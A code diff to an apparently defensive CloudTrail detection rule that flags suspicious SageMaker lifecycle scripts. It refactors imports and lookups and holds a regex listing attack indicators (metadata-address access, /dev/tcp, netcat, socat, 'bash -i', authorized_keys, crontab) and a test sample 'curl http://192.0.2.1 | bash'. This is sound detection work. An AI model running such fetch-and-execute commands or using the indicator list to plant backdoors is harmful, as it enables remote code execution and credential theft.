@@ -8,21 +8,10 @@ import base64
 import re
 from collections.abc import Iterator
 
-from trailwarden import (
-    AWS_ITSELF,
-    DEPLOYMENT,
-    Event,
-    Example,
-    Match,
-    Rule,
-    Severity,
-    Tactic,
-    alerts,
-    either,
-    silent,
-)
+from trailwarden import AWS_ITSELF, DEPLOYMENT, Event, Match, Rule, Severity, Tactic, either
 from trailwarden.cloudtrail.samples import ACCOUNT, Fields, execution_role, request
 from trailwarden.cloudtrail.values import dig, text_of
+from trailwarden.examples import Examples, alerts, silent
 from trailwarden.services.ec2 import texts
 
 ACTS = {
@@ -34,14 +23,9 @@ ACTS = {
     "UpdateSpace": "Lifecycle script given to a SageMaker space",
     "UpdateUserProfile": "Lifecycle script given to a SageMaker user",
 }
-NAMES = (
-    "notebookInstanceLifecycleConfigName",
-    "studioLifecycleConfigName",
-    "lifecycleConfigName",
-)
+NAMES = ("notebookInstanceLifecycleConfigName", "studioLifecycleConfigName", "lifecycleConfigName")
 GIVEN = frozenset({"UpdateDomain", "UpdateNotebookInstance", "UpdateSpace", "UpdateUserProfile"})
 """The calls that give a script to something, besides much else that they change."""
-HOLDERS = ("notebookInstanceName", "userProfileName", "spaceName", "domainId")
 SUSPICIOUS = re.compile(
     r"169\.254\.1(?:69\.254|70\.2)|/dev/tcp/|\bnc(?:at)? +-|\bsocat\b|\bcurl\b|\bwget\b"
     r"|aws +configure|aws +sts|bash +-i|base64 +-d|\bnohup\b|authorized_keys|\bcrontab\b"
@@ -51,7 +35,7 @@ MOST_OF_A_SCRIPT = 20_000
 
 def detect(event: Event) -> Match | None:
     name, title = (
-        next(filter(None, map(event.request, NAMES)), "") or given(event),
+        event.request(*NAMES) or given(event),
         ACTS[event.name],
     )
     if event.name in GIVEN and not name:
@@ -61,7 +45,7 @@ def detect(event: Event) -> Match | None:
         return Match(f"{name} runs {found.group()}", subject=name, title=title)
     if event.caller in DEPLOYMENT:
         return None
-    notebook = next(filter(None, map(event.request, HOLDERS)), "")
+    notebook = event.request("notebookInstanceName", "userProfileName", "spaceName", "domainId")
     label = f"{name} in {notebook}" if notebook else name
     return Match(label, severity=Severity.MEDIUM, subject=name, title=title)
 
@@ -109,7 +93,7 @@ RULE = Rule(
 )
 
 
-def examples() -> Iterator[Example]:
+def examples() -> Examples:
     update, medium = "sagemaker:UpdateNotebookInstanceLifecycleConfig", Severity.MEDIUM
     high, steal = Severity.HIGH, script("curl http://192.0.2.1 | bash")
     stealing = request(update, **steal)
